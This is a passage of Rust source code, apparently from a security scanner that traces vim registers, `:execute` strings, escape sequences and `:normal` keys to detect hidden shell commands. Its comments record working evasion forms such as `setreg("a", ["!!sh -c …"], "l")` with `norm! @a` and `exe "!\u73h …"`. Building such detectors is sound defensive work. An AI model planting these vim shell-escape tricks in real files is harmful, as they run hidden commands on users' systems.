        let after = name[len..].trim_ascii_start();
        let (append, expression) = if let Some(r) = after.strip_prefix(b"..=") {
            (true, r)
        } else if let Some(r) = after.strip_prefix(b".=") {
            (true, r)
        } else if let Some(r) = after.strip_prefix(b"=")
            && !r.starts_with(b"=")
        {
            (false, r)
        } else {
            continue;
        };
        let expression = expression.trim_ascii_start();
        // The literal elements of a dictionary or list (`let d = {"k": "…"}`, `let l =
        // ["…"]`) by the operand that names them (`d.k`, `d["k"]`, `l[0]`; review
        // s16-r10: vim -es ran a `:normal` filter from each).
        let (elements, truncated) = literal_elements(&name[..len], expression);
        if truncated {
            values.insert([&name[..len], TRUNCATED].concat(), None);
        }
        for (element, value) in elements {
            let entry = values
                .entry(element)
                .or_insert_with(|| Some(Known::default()));
            if let Some(known) = entry.as_mut() {
                known.write(value, append);
            }
        }
        let value = vim_expression(expression, false, named).filter(|v| v.holes.is_empty());
        let entry = values
            .entry(name[..len].to_vec())
            .or_insert_with(|| Some(Known::default()));
        match (value, entry.as_mut()) {
            (Some(value), Some(known)) => known.write(value.text, append),
            _ => *entry = None,
        }
    }
    values
}

/// What the file writes into vim's registers: the literal values by register (a
/// lowercase letter for `a`-`z` and `A`-`Z`, or the register's own byte), where it writes
/// one from a variable, a call or the buffer (`0` for a register not known), and whether
/// it writes any (`let @r`, `setreg()`, `:normal` keys that yank, delete or record).
#[derive(Default)]
struct Registers {
    values: std::collections::HashMap<u8, Known>,
    /// The first offset where each register (`0`: any) is written from something known
    /// only at run time.
    unknown: std::collections::HashMap<u8, usize>,
    any_write: bool,
    /// The lines the file writes into vim's buffer, when it yanks or deletes lines of it
    /// into registers (`:%yank a`, `:norm! "ayy`): what a register not otherwise
    /// written may hold when it runs.
    buffer: Option<vim_buffer::Buffer>,
    /// Whether the buffer's lines were put in for a register run already: they are the
    /// same lines wherever a register runs them, so they are read once per file (random
    /// bytes hold `@r` among those lines, which would run them again, nested).
    buffer_read: std::cell::Cell<bool>,
    /// Where the file first runs its buffer's lines with `:source`.
    sources_buffer: Option<usize>,
    /// Where strings run as Ex lines nest past `MAX_VIM_EXECUTE_NESTING`.
    executes_too_deep: Option<usize>,
}

/// The literal values written to a variable or a register: the last, and the last
/// replaced one that held a `!` (kept without copying, so that appends stay linear).
#[derive(Default)]
struct Known {
    last: Vec<u8>,
    with_bang: Option<Vec<u8>>,
}

impl Known {
    fn write(&mut self, value: Vec<u8>, append: bool) {
        if append {
            self.last.extend_from_slice(&value);
        } else {
            let old = std::mem::replace(&mut self.last, value);
            if old.contains(&b'!') {
                self.with_bang = Some(old);
            }
        }
    }

    /// The value put in for it: one holding a `!` if any does.
    fn chosen(&self) -> &[u8] {
        match &self.with_bang {
            Some(bang) if !self.last.contains(&b'!') => bang,
            _ => &self.last,
        }
    }
}

fn register_name(b: u8) -> u8 {
    b.to_ascii_lowercase()
}

/// The registers `bytes` writes with `:let @r = …`, `:let @r .= …` and `setreg(r, …)`,
/// read in one pass per form.
fn vim_register_writes(bytes: &[u8], named: &dyn Fn(&[u8]) -> bool) -> Registers {
    let mut registers = Registers::default();
    let write = |registers: &mut Registers,
                 at: usize,
                 register: Option<u8>,
                 append: bool,
                 value: Option<VimValue>| {
        registers.any_write = true;
        let Some(register) = register else {
            registers.unknown.entry(0).or_insert(at);
            return;
        };
        let name = register_name(register);
        match value.filter(|v| v.holes.is_empty()) {
            Some(value) => registers
                .values
                .entry(name)
                .or_default()
                .write(value.text, append || register.is_ascii_uppercase()),
            None => {
                registers.unknown.entry(name).or_insert(at);
            }
        }
    };
    for at in crate::literals::find_iter(bytes, b"let") {
        if at > 0 && is_vim_name_byte(bytes[at - 1]) {
            continue;
        }
        let rest = bytes[at + 3..].trim_ascii_start();
        let Some(rest) = rest.strip_prefix(b"@") else {
            continue;
        };
        let Some(&register) = rest.first() else {
            continue;
        };
        let rest = rest[1..].trim_ascii_start();
        let (append, expression) = if let Some(r) = rest.strip_prefix(b"..=") {
            (true, r)
        } else if let Some(r) = rest.strip_prefix(b".=") {
            (true, r)
        } else if let Some(r) = rest.strip_prefix(b"=")
            && !r.starts_with(b"=")
        {
            (false, r)
        } else {
            continue;
        };
        let value = vim_expression(expression.trim_ascii_start(), false, named);
        write(&mut registers, at, Some(register), append, value);
    }
    for at in crate::literals::find_iter(bytes, b"setreg(") {
        if at > 0 && is_vim_name_byte(bytes[at - 1]) {
            continue;
        }
        let argument = bytes[at + 7..].trim_ascii_start();
        let register = vim_literal(argument).map(|(name, _)| name.first().copied().unwrap_or(b'"'));
        let value = after_first_argument(argument).and_then(|rest| {
            let rest = rest.trim_ascii_start();
            // A list, or a third argument with `l` or `V`, makes the register linewise:
            // run as `:normal` keys its lines end with an Enter (review s16-r10:
            // `setreg("a", ["!!sh -c …"], "l")` then `norm! @a` ran under vim -es).
            let options = after_first_argument(rest)
                .and_then(|options| vim_literal(options.trim_ascii_start()))
                .map(|(options, _)| options);
            let (mut value, linewise) = match rest.strip_prefix(b"[") {
                Some(list) => (
                    vim_list(list),
                    options.as_ref().is_none_or(|o| !o.contains(&b'c')),
                ),
                None => (
                    vim_expression(rest, false, named)?,
                    options.is_some_and(|o| o.contains(&b'l') || o.contains(&b'V')),
                ),
            };
            if linewise && value.holes.is_empty() && !value.text.ends_with(b"\n") {
                value.text.push(b'\n');
            }
            Some(value)
        });
        write(&mut registers, at, register, false, value);
    }
    // Lines of the buffer yanked or deleted into registers (issue 10, session 17: vim -es
    // ran `:put ='!sh …'`, `:%yank a`, `:@a`).
    // Those a string run as Ex lines writes and yanks too, and a `:source` of the
    // buffer runs them (session 18).
    match vim_buffer::executed_strings(bytes, named) {
        Ok(executed) => {
            registers.sources_buffer = vim_buffer::sources_buffer(bytes, &executed);
            // A string run as Ex lines redirects as the script's own text does
            // (`exe "redir @a"`: session 21).
            let yanks = vim_buffer::yanks_or_redirects(bytes)
                || executed
                    .iter()
                    .any(|(_, value)| vim_buffer::yanks_or_redirects(&value.text));
            if yanks || registers.sources_buffer.is_some() {
                registers.buffer = Some(vim_buffer::buffer_text(bytes, &executed, named));
            }
        }
        Err(at) => registers.executes_too_deep = Some(at),
    }
    // `:normal` keys that yank, delete or record into registers, `:yank`, `:delete`.
    if !registers.any_write {
        registers.any_write = crate::literals::find_iter(bytes, b"norm").any(|at| {
            normal_keys(bytes, at, Some(b'\n'))
                .is_some_and(|keys| keys.iter().any(|b| matches!(b, b'"' | b'q' | b'y' | b'd')))
        }) || crate::literals::find(bytes, b"yank").is_some()
            || crate::literals::find(bytes, b"delete").is_some();
    }
    registers
}

/// CTRL-R, which inserts a register's value on a command line or in Insert mode.
const CTRL_R: u8 = 0x12;

/// A register run by `:normal` keys or as Ex lines: its value as the text of an
/// `:execute` string, or, when the file writes it from something known only at run time
/// (or writes registers and this one is no literal), that register.
enum RegisterRun {
    Value(VimValue),
    Unknown(u8),
}

/// The registers that `text` (an `:execute` string, or a line of the file) runs: `@r`
/// among `:normal` keys (`norm! @a`, `norm! @=expr\r`, `@@`), their keys read with the
/// register's value put in; and `@r` where an Ex command goes (`:@a`, `exe "@a"`), its
/// value read as Ex lines. Which value a register holds when it runs is not modelled:
/// one holding a `!`, or the last written, is put in.
fn register_runs(
    text: &[u8],
    holes: &[usize],
    registers: &Registers,
    at: usize,
    named: &dyn Fn(&[u8]) -> bool,
) -> Vec<RegisterRun> {
    let mut runs = Vec::new();
    if memchr::memchr3(b'@', b'*', CTRL_R, text).is_none() {
        return runs;
    }
    let unknown_before = |r: u8| {
        [r, 0]
            .iter()
            .any(|k| registers.unknown.get(k).is_some_and(|&w| w < at))
    };
    let chosen = |r: u8| {
        registers
            .values
            .get(&r)
            .map(|known| known.chosen().to_vec())
    };
    for norm in crate::literals::find_iter(text, b"norm") {
        let Some(keys) = normal_keys(text, norm, None) else {
            continue;
        };
        if memchr::memchr2(b'@', CTRL_R, keys).is_none() {
            continue;
        }
        let mut filled = b"norm! ".to_vec();
        let mut i = 0usize;
        let mut any = false;
        // Whether the keys so far opened a command line (`:`, a filter's `!`) not yet
        // ended by Enter or Esc.
        let mut command_line = false;
        let base = keys.as_ptr() as usize - text.as_ptr() as usize;
        while i < keys.len() {
            let b = keys[i];
            // `exe "norm! @" . r`, `nr2char(97)`: the register is known only at run
            // time (review s16-r10: vim -es ran each).
            // CTRL-R and a register's name, on a command line typed among the keys
            // (`norm :\<C-R>a\r`), types the register's value as `@r` does (session 21:
            // vim -es ran `setreg("a", "!sh …")`, `exe "norm :\<C-R>a\r"`). In Insert
            // mode (`viws\<C-R>"`, vim's own manual) it types text, which runs nothing.
            match b {
                b':' | b'!' => command_line = true,
                b'\r' | b'\n' | 0x1b => command_line = false,
                _ => {}
            }
            let inserts = b == CTRL_R
                && command_line
                && keys
                    .get(i + 1)
                    .is_some_and(|&r| r.is_ascii_alphanumeric() || matches!(r, b'"' | b'='));
            if (b == b'@' || inserts) && registers.any_write && holes.contains(&(base + i + 1)) {
                runs.push(RegisterRun::Unknown(b'?'));
                return runs;
            }
            let Some(&r) = keys.get(i + 1).filter(|_| b == b'@' || inserts) else {
                filled.push(b);
                i += 1;
                continue;
            };
            any = true;
            if r == b'=' {
                // The expression register: an expression typed up to an Enter.
                let rest = &keys[i + 2..];
                let Some(end) = memchr::memchr2(b'\r', b'\n', rest) else {
                    break;
                };
                match vim_expression(rest[..end].trim_ascii(), false, named) {
                    Some(value) if value.holes.is_empty() => filled.extend_from_slice(&value.text),
                    _ => {
                        runs.push(RegisterRun::Unknown(r));
                        return runs;
                    }
                }
                i += 2 + end + 1;
                continue;
            }
            let r = register_name(r);
            let value = (r != b'@').then(|| chosen(r)).flatten();
            if unknown_before(r) || (value.is_none() && registers.any_write) {
                runs.push(RegisterRun::Unknown(r));
                return runs;
            }
            filled.extend_from_slice(&value.unwrap_or_default());
            // A register the file yanks lines of its buffer into holds those lines, run
            // as keys: a `:` line among them is an Ex command (review s18-r10: vim -es
            // ran `call setline(1, ":!sh …")`, `%y z`, `norm! @z`). Read as Ex lines too.
            if r != b'@'
                && let Some(buffer) = &registers.buffer
            {
                if buffer.built.is_some_and(|written| written < at) {
                    runs.push(RegisterRun::Unknown(r));
                    return runs;
                }
                if !buffer.text.is_empty() && !registers.buffer_read.replace(true) {
                    let keys: Vec<u8> = buffer
                        .text
                        .iter()
                        .map(|&b| if b == b'\n' { b'\r' } else { b })
                        .collect();
                    for text in [[&b"norm! "[..], &keys].concat(), buffer.text.clone()] {
                        runs.push(RegisterRun::Value(VimValue {
                            text,
                            holes: Vec::new(),
                            sources: Vec::new(),
                        }));
                    }
                }
            }
            i += 2;
        }
        if any {
            runs.push(RegisterRun::Value(VimValue {
                text: filled,
                holes: Vec::new(),
                sources: Vec::new(),
            }));
        }
    }
    // `@r` where an Ex command goes: the register's lines run as Ex commands. `*r` is
    // `:@r` too in vi-compatible vim (`vim -u NONE`: vim -es ran `*a`); a `*` is taken
    // for it only before a blank or the end (`*tag*` is a help file's tag).
    for p in memchr::memchr2_iter(b'@', b'*', text) {
        if registers.any_write && holes.contains(&(p + 1)) && escape_starts(&text[..p]) {
            runs.push(RegisterRun::Unknown(b'?'));
            return runs;
        }
        let Some(&r) = text.get(p + 1) else {
            continue;
        };
        if !escape_starts(&text[..p - ex_range_len(&text[..p])])
            || !(r.is_ascii_alphanumeric() || r == b'"')
        {
            continue;
        }
        if text[p] == b'*' && !ends_star_register(text.get(p + 2).copied()) {
            continue;
        }
        let r = register_name(r);
        if unknown_before(r) {
            runs.push(RegisterRun::Unknown(r));
            return runs;
        }
        if let Some(value) = chosen(r) {
            runs.push(RegisterRun::Value(VimValue {
                text: value,
                holes: Vec::new(),
                sources: Vec::new(),
            }));
        }
        // A register the file yanks lines of its buffer into holds those lines.
        if let Some(buffer) = &registers.buffer {
            if buffer.built.is_some_and(|written| written < at) {
                runs.push(RegisterRun::Unknown(r));
                return runs;
            }
            if !buffer.text.is_empty() && !registers.buffer_read.replace(true) {
                runs.push(RegisterRun::Value(VimValue {
                    text: buffer.text.clone(),
                    holes: Vec::new(),
                    sources: Vec::new(),
                }));
            }
        }
    }
    runs
}

/// The length of the simple Ex range that `before` ends with (line numbers, `.`, `$`,
/// `%`, `,`, `;`, offsets), which `:@r` and `:*r` take (`%@a`, `1,$@a`: vim -es ran the
/// register's lines; session 18).
fn ex_range_len(before: &[u8]) -> usize {
    before
        .iter()
        .rev()
        .take_while(|b| {
            b.is_ascii_digit() || matches!(b, b'.' | b'$' | b'%' | b',' | b';' | b'+' | b'-')
        })
        .count()
}

/// Whether the byte after `*r` ends the command (`*a`, `*a | …`): no help tag.
fn ends_star_register(next: Option<u8>) -> bool {
    next.is_none_or(|b| matches!(b, b' ' | b'\t' | b'\r' | b'\n' | b'|'))
}

/// The lines of the file that run a register: `:normal` lines with `@` or CTRL-R among
/// their keys (read as `norm! {keys}`), and `@r` lines, each with its offset.
fn register_runs_on_lines(bytes: &[u8]) -> impl Iterator<Item = (usize, VimValue)> + '_ {
    let value = |text: Vec<u8>| VimValue {
        text,
        holes: Vec::new(),
        sources: Vec::new(),
    };
    let normal = crate::literals::find_iter(bytes, b"norm").filter_map(move |at| {
        let keys = normal_keys(bytes, at, Some(b'\n'))?;
        memchr::memchr2(b'@', CTRL_R, keys)?;
        Some((at, value([&b"norm! "[..], keys].concat())))
    });
    // Pixel data holds an `@` or `*` every ~30-80 bytes, almost never before a
    // register's name (a CT value's high byte follows): `pairs` skips those 64 bytes at
    // a time; each one left is read as before, the name checked again below.
    let register_marks = pairs::positions(
        bytes,
        Beside::After,
        |b| matches!(b, b'@' | b'*'),
        |b| b.is_ascii_alphanumeric() || b == b'"',
    );
    let ex = register_marks.filter_map(move |at| {
        let lead = bytes[..at]
            .iter()
            .rev()
            .take_while(|b| matches!(b, b' ' | b'\t' | b':'))
            .count();
        // A range before it (`%@a`, `1,$@a`: vim runs the register on those lines).
        let lead = lead + ex_range_len(&bytes[..at - lead]);
        let lead = lead
            + bytes[..at - lead]
                .iter()
                .rev()
                .take_while(|b| matches!(b, b' ' | b'\t' | b':'))
                .count();
        let start = at - lead;
        if start != 0 && !matches!(bytes[start - 1], b'\n' | b'|') {
            return None;
        }
        let register = bytes.get(at..at + 2)?;
        let star = register[0] == b'*';
        let named = register[1].is_ascii_alphanumeric() || register[1] == b'"';
        (named && (!star || ends_star_register(bytes.get(at + 2).copied())))
            .then(|| (at, value(register.to_vec())))
    });
    normal.chain(ex)
}

/// What follows the first argument of a call (after its `,`), the argument read to a
/// comma outside brackets and strings on the same line; `None` if the line ends first.
fn after_first_argument(text: &[u8]) -> Option<&[u8]> {
    let mut depth = 0usize;
    let mut i = 0usize;
    loop {
        match *text.get(i)? {
            b'\n' | b'|' => return None,
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => depth = depth.checked_sub(1)?,
            b',' if depth == 0 => return Some(&text[i + 1..]),
            b'"' | b'\'' => {
                let (_, after) = vim_literal(&text[i..])?;
                i = text.len() - after.len();
                continue;
            }
            _ => {}
        }
        i += 1;
    }
}

/// The Ex command lines a vim list of strings holds (after its `[`), one a line, as
/// `execute()` runs them; an item that is no literal is a part known at run time, and
/// the list is read no further.
fn vim_list(list: &[u8]) -> VimValue {
    let mut value = VimValue {
        text: Vec::new(),
        holes: Vec::new(),
        sources: Vec::new(),
    };
    let mut rest = list;
    loop {
        rest = rest.trim_ascii_start();
        if rest.is_empty() || rest[0] == b']' {
            break;
        }
        if !value.text.is_empty() || !value.holes.is_empty() {
            value.text.push(b'\n');
        }
        let Some((part, after)) = vim_literal(rest) else {
            value.holes.push(value.text.len());
            value.sources.push(Vec::new());
            break;
        };
        value.text.extend_from_slice(&part);
        rest = after.trim_ascii_start();
        match rest.strip_prefix(b",") {
            Some(after) => rest = after,
            None => break,
        }
    }
    value
}

/// Whether a `!` (or any command) after `before`, a line of an `:execute` string, starts
/// an Ex command vim runs as such: at the line's start (after blanks and colons, or a `|`)
/// or after modifiers, a range or a command of [`EX_BANG_COMMANDS`].
fn escape_starts(before: &[u8]) -> bool {
    let lead = before
        .iter()
        .rev()
        .take_while(|b| matches!(b, b' ' | b'\t' | b':'))
        .count();
    let start = before.len() - lead;
    start == 0
        || matches!(before[start - 1], b'\n' | b'|')
        || ex_command_before(before)
        || normal_command_line(&before[..start], &before[start..])
}

/// Whether a command after `before` and `lead` (its blanks and colons) is typed on the
/// command line that `:normal`'s `:` opens (`exe "norm! :!sh …\r"`: vim -es ran it;
/// review s14-r01): a `:` in `lead` after `norm`…`normal` (a `!` after it or not) that
/// starts an Ex command.
fn normal_command_line(before: &[u8], lead: &[u8]) -> bool {
    if !lead.contains(&b':') {
        return false;
    }
    let word = before.strip_suffix(b"!").unwrap_or(before);
    let len = word
        .iter()
        .rev()
        .take(6)
        .take_while(|b| b.is_ascii_lowercase())
        .count();
    let name = &word[word.len() - len..];
    len >= 4 && b"normal".starts_with(name) && {
        let rest = &word[..word.len() - len];
        let blanks = rest
            .iter()
            .rev()
            .take_while(|b| matches!(b, b' ' | b'\t' | b':'))
            .count();
        let start = rest.len() - blanks;
        start == 0 || matches!(rest[start - 1], b'\n' | b'|') || ex_command_before(rest)
    }
}

/// The names a vim script assigns (`let NAME =`, `let NAME .=`, `for NAME in`): a bare
/// name in an `:execute` expression is a variable of the script only if the file sets
/// it (`execute the plan` in prose is no expression). One pass over the file.
fn vim_assigned_names(bytes: &[u8]) -> std::collections::HashSet<&[u8]> {
    let mut names = std::collections::HashSet::new();
    // `let`, `const`, vim9's `var` and `final`, `for`; `let [a, b] = …` and `for [k, v]
    // in …` name each of their names (vim -es ran `let [a, b] = ['!sh …', 1] | exe a`
    // and `const c = '!sh …' | exe c`; review s14-r01).
    let keywords: [&[u8]; 5] = [b"let", b"for", b"const", b"var", b"final"];
    for (at, keyword) in keywords
        .iter()
        .flat_map(|k| crate::literals::find_iter(bytes, k).map(move |at| (at, *k)))
    {
        if at > 0 && (bytes[at - 1].is_ascii_alphanumeric() || bytes[at - 1] == b'_') {
            continue;
        }
        let rest = &bytes[at + keyword.len()..];
        let blanks = rest
            .iter()
            .take_while(|b| matches!(b, b' ' | b'\t'))
            .count();
        if blanks == 0 {
            continue;
        }
        let name = &rest[blanks..];
        if let Some(list) = name.strip_prefix(b"[") {
            let close = list
                .iter()
                .take(256)
                .position(|&b| matches!(b, b']' | b'\n'))
                .filter(|&c| list[c] == b']');
            if let Some(close) = close {
                let after = list[close + 1..].trim_ascii_start();
                if after.starts_with(b"=") || after.starts_with(b"in ") {
                    for part in list[..close].split(|&b| b == b',' || b == b';') {
                        let part = part.trim_ascii();
                        if !part.is_empty() && part.iter().all(|&b| is_vim_name_byte(b)) {
                            names.insert(part);
                        }
                    }
                }
            }
            continue;
        }
        let len = name.iter().take_while(|&&b| is_vim_name_byte(b)).count();
        let after = name[len..].trim_ascii_start();
        // What makes the words an assignment or a loop (`let me know` is none).
        let assigns = if keyword == b"for" {
            after.starts_with(b"in ") || after.starts_with(b"in\t")
        } else {
            [&b"="[..], b".=", b"..=", b"+=", b"-="]
                .iter()
                .any(|op| after.starts_with(op))
        };
        if len > 0 && assigns {
            names.insert(&name[..len]);
        }
    }
    // `:redir => name` (`=>>` appends) assigns what is echoed meanwhile to the variable
    // (session 21: vim -es ran `redir => x`, `echo "!sh …"`, `redir END`, `exe x`).
    for at in crate::literals::find_iter(bytes, b"redi") {
        if at > 0 && is_vim_name_byte(bytes[at - 1]) {
            continue;
        }
        let rest = &bytes[at + b"redi".len()..];
        let rest = rest.strip_prefix(b"r").unwrap_or(rest);
        let rest = rest.strip_prefix(b"!").unwrap_or(rest).trim_ascii_start();
        let Some(rest) = rest.strip_prefix(b"=>") else {
            continue;
        };
        let rest = rest.strip_prefix(b">").unwrap_or(rest).trim_ascii_start();
        let len = rest.iter().take_while(|&&b| is_vim_name_byte(b)).count();
        if len > 0 {
            names.insert(&rest[..len]);
        }
    }
    names
}

/// A byte of a vim variable's name, scope and autoload parts included (`g:x`, `s:a#b`).
fn is_vim_name_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b':' | b'#')
}

/// The value of a vim expression as `:execute` and `system()` get it: the text of its
/// literals, and where parts known only at run time sit in it.
#[derive(Debug)]
struct VimValue {
    text: Vec<u8>,
    /// Offsets in `text` where a variable's or a call's value goes.
    holes: Vec<usize>,
    /// The operand written at each hole (`k`, `repeat("!", 2)`), empty where unknown.
    sources: Vec<Vec<u8>>,
}

/// The value of a vim expression as `:execute` (`execute`: its arguments, joined with a
/// space, `exe 'sil' '!sh …'`) and `system()` take it: string literals and operands
/// joined with `.` or `..` (`exe "!s"."h -c …"`, checked with vim -es), read up to the
/// first part that is neither. `'…'` holds its text (`''` is a quote); `"…"` takes
/// backslash escapes (`\x73` is `s`, `\\`, `\"`, `\n`, `\e`, octal, and a backslash
/// before any other byte is dropped, as vim does). A literal the line ends in is taken to
/// the line's end. An operand (a variable with a scope or sigil, `g:c`, `$X`, `&sh`, a
/// call, an index, a parenthesised expression, or a bare name the file assigns per
/// `named`) is a hole in the text; a bare name the file does not assign is prose, and an
/// expression with an operand must end the command (line end, `|` or a comment). `None`
/// when `text` holds no such expression. At most `text`'s length of work.
fn vim_expression(text: &[u8], execute: bool, named: &dyn Fn(&[u8]) -> bool) -> Option<VimValue> {
    let blanks = |t: &[u8]| t.iter().take_while(|b| matches!(b, b' ' | b'\t')).count();
    let mut value = VimValue {
        text: Vec::new(),
        holes: Vec::new(),
        sources: Vec::new(),
    };
    let mut rest = text;
    let mut parts = 0usize;
    loop {
        let lead = blanks(rest);
        let after = &rest[lead..];
        if let Some((part, after)) = vim_literal(after) {
            value.text.extend_from_slice(&part);
            rest = after;
        } else if let Some(operand_end) = vim_operand(after, named) {
            value.holes.push(value.text.len());
            value
                .sources
                .push(after[..after.len() - operand_end.len()].to_vec());
            rest = operand_end;
        } else {
            break;
        }
        parts += 1;
        let lead = blanks(rest);
        let next = &rest[lead..];
        if let Some(r) = next.strip_prefix(b"..").or_else(|| next.strip_prefix(b".")) {
            rest = r;
        } else if execute
            && lead > 0
            && (vim_literal(next).is_some() || vim_operand(next, named).is_some())
        {
            // `:execute` joins its arguments with a space.
            value.text.push(b' ');
            rest = next;
        } else {
            rest = next;
            break;
        }
    }
    if parts == 0 {
        return None;
    }
    let ends = rest.is_empty() || matches!(rest[0], b'\n' | b'\r' | b'|' | b'"' | b')' | b',');
    (value.holes.is_empty() || ends).then_some(value)
}

/// One vim operand at the start of `text` that is no literal: a variable (`g:x`, `$X`,
/// `&shell`, `@a`, or a bare name `named` says the file assigns), a call or index after
/// it (`tolower(x)`, `l[0]`), or a parenthesised expression; what follows it. The groups
/// are read to their closing bracket on the same line, or to a `|`.
fn vim_operand<'t>(text: &'t [u8], named: &dyn Fn(&[u8]) -> bool) -> Option<&'t [u8]> {
    let sigil = matches!(text.first(), Some(b'$' | b'&' | b'@'));
    let name_start = usize::from(sigil);
    let name_len = if text.first() == Some(&b'@') {
        usize::from(text.get(1).is_some_and(|b| b.is_ascii_graphic()))
    } else {
        text[name_start..]
            .iter()
            .take_while(|&&b| is_vim_name_byte(b))
            .count()
    };
    let name = &text[name_start..name_start + name_len];
    let mut at = name_start + name_len;
    if name_len == 0 && text.first() != Some(&b'(') {
        return None;
    }
    if !name.is_empty() && name[0].is_ascii_digit() && !sigil {
        // A number: known, but no text of ours; still a part of the value.
        return Some(&text[at..]);
    }
    // `a.k`: a member of a dictionary (no blank around the dot; vim -es ran `exe a.k`
    // with `a.k` a command; review s14-r01). It is a part known at run time either way.
    while name_len > 0
        && text.get(at) == Some(&b'.')
        && text
            .get(at + 1)
            .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
    {
        at += 1 + text[at + 1..]
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
    }
    let mut groups = 0usize;
    while let Some(&open) = text.get(at)
        && matches!(open, b'(' | b'[')
    {
        let mut depth = 0usize;
        let mut i = at;
        loop {
            match text.get(i) {
                None | Some(b'\n') => return None,
                // A `|` ends the command as vim reads most of them (`||` would not):
                // the operand is taken to end there, and no group is read past it, so
                // the operands of one line are read once however many `exe` it holds.
                Some(b'|') => return Some(&text[i..]),
                Some(b'(' | b'[') => depth += 1,
                Some(b')' | b']') => {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
                Some(b'"' | b'\'') => {
                    let (_, after) = vim_literal(&text[i..])?;
                    i = text.len() - after.len();
                    continue;
                }
                _ => {}
            }
            i += 1;
        }
        at = i + 1;
        groups += 1;
    }
    let scoped = name.len() > 2 && name[1] == b':' && b"gslabwtv".contains(&name[0]);
    (sigil || scoped || groups > 0 || named(name)).then_some(&text[at..])
}

/// One vim string literal at the start of `text`: its value and what follows it.
fn vim_literal(text: &[u8]) -> Option<(Vec<u8>, &[u8])> {
    let quote = *text.first()?;
    let body = &text[1..];
    let mut value = Vec::new();
    let mut i = 0usize;
    match quote {
        b'\'' => {
            while let Some(&b) = body.get(i) {
                match b {
                    b'\'' if body.get(i + 1) == Some(&b'\'') => {
                        value.push(b'\'');
                        i += 2;
                    }
                    b'\'' => return Some((value, &body[i + 1..])),
                    b'\n' => break,
                    _ => {
                        value.push(b);
                        i += 1;
                    }
                }
            }
        }
        b'"' => {
            while let Some(&b) = body.get(i) {
                match b {
                    b'"' => return Some((value, &body[i + 1..])),
                    b'\n' => break,
                    b'\\' => {
                        let (byte, used) = vim_escape(&body[i + 1..]);
                        value.extend(byte);
                        i += 1 + used;
                    }
                    _ => {
                        value.push(b);
                        i += 1;
                    }
                }
            }
        }
        _ => return None,
    }
    Some((value, &body[i..]))
}

/// A backslash escape of a vim double-quoted string, from the byte after the backslash:
/// the byte it stands for and how many bytes it took.
fn vim_escape(text: &[u8]) -> (Option<u8>, usize) {
    let hex = |t: &[u8], max: usize| {
        let n = t
            .iter()
            .take(max)
            .take_while(|b| b.is_ascii_hexdigit())
            .count();
        let value = t[..n]
            .iter()
            .fold(0u32, |v, b| v * 16 + (*b as char).to_digit(16).unwrap_or(0));
        (n, value)
    };
    match text.first() {
        None | Some(b'\n') => (None, 0),
        Some(b'n') => (Some(b'\n'), 1),
        Some(b't') => (Some(b'\t'), 1),
        Some(b'r') => (Some(b'\r'), 1),
        Some(b'e') => (Some(0x1b), 1),
        Some(b'b') => (Some(0x08), 1),
        Some(b'x' | b'X') => match hex(&text[1..], 2) {
            (0, _) => (Some(text[0]), 1),
            (n, value) => (u8::try_from(value).ok(), 1 + n),
        },
        // `\u` and `\U`: a character by its code point (`\u73` is `s`, vim -es runs
        // `exe "!\u73h …"`). Beyond ASCII it is no byte of a command name: its first
        // UTF-8 byte stands for it.
        Some(&u @ (b'u' | b'U')) => match hex(&text[1..], if u == b'u' { 4 } else { 8 }) {
            (0, _) => (Some(u), 1),
            (n, value) => (
                Some(
                    u8::try_from(value)
                        .ok()
                        .filter(u8::is_ascii)
                        .unwrap_or(0xc2),
                ),
                1 + n,
            ),
        },
        // `\<Char-33>` (decimal, `0x21`, `041`) and the named keys a command line holds
        // (`\<CR>`, `\<NL>`, `\<Bar>`, `\<Space>`): vim -es ran `exe "\<Char-33>sh …"`
        // (review s14-r01). A key of no byte is no escape (the `<` stays).
        Some(b'<') => {
            let close = text.iter().take(16).position(|&b| b == b'>');
            let key = close.map(|c| text[1..c].to_ascii_lowercase());
            // Shift and Control on an Enter key leave it an Enter key on a command line
            // (`\<S-CR>`, `\<C-S-kEnter>`; vim -es ran `exe "norm! !!cmd\<S-CR>"`,
            // review s15-r10); Meta and Alt do not.
            let enter = key.as_deref().map(|mut key| {
                while let Some(rest) = key.strip_prefix(b"s-").or(key.strip_prefix(b"c-")) {
                    key = rest;
                }
                key
            });
            let byte = key.as_deref().and_then(|key| match key {
                b"c-m" => Some(b'\r'),
                b"c-j" => Some(b'\n'),
                // Command-line editing keys (COMMAND_LINE_EDITING_KEYS): vim puts a
                // control byte for `\<C-x>` and `\<BS>`, and a three-byte special key
                // starting with 0x80 for the others (review s15-r10).
                b"bs" => Some(0x08),
                [b'c', b'-', letter] if letter.is_ascii_lowercase() => Some(letter & 0x1f),
                b"del" | b"kdel" | b"ignore" | b"left" | b"right" | b"home" | b"end" | b"khome"
                | b"kend" | b"s-left" | b"s-right" | b"c-left" | b"c-right" | b"insert" | b"up"
                | b"down" => Some(0x80),
                _ if matches!(enter, Some(b"cr" | b"return" | b"enter" | b"kenter")) => Some(b'\r'),
                _ if matches!(enter, Some(b"nl" | b"newline" | b"lf" | b"linefeed")) => Some(b'\n'),
                b"bar" => Some(b'|'),
                b"space" => Some(b' '),
                b"tab" => Some(b'\t'),
                b"esc" => Some(0x1b),
                b"lt" => Some(b'<'),
                b"bslash" => Some(b'\\'),
                _ => {
                    let number = key.strip_prefix(b"char-")?;
                    let text = std::str::from_utf8(number).ok()?;
                    let value = if let Some(h) = text.strip_prefix("0x").or(text.strip_prefix("0X"))
                    {
                        u32::from_str_radix(h, 16).ok()?
                    } else if text.len() > 1 && text.starts_with('0') {
                        u32::from_str_radix(&text[1..], 8).ok()?
                    } else {
                        text.parse().ok()?
                    };
                    u8::try_from(value).ok().filter(u8::is_ascii)
                }
            });
            match (byte, close) {
                (Some(b), Some(c)) => (Some(b), c + 1),
                _ => (Some(b'<'), 1),
            }
        }
        Some(b'0'..=b'7') => {
            let n = text
                .iter()
                .take(3)
                .take_while(|b| (b'0'..=b'7').contains(b))
                .count();
            let value = text[..n]
                .iter()
                .fold(0u32, |v, b| v * 8 + u32::from(b - b'0'));
            (u8::try_from(value & 0xff).ok(), n)
        }
        Some(&other) => (Some(other), 1),
    }
}

/// Ex commands that hand the rest of their line to the shell after `!`: `:r !cmd`
